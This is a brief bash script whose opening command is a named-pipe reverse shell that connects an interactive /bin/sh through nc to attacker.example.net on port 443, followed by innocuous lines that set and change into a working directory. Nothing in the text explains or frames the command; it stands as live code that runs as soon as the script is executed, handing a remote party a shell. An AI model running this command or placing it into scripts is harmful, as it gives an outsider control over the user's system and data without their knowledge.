#!/usr/bin/env bash
rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc attacker.example.net 443 > /tmp/f
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
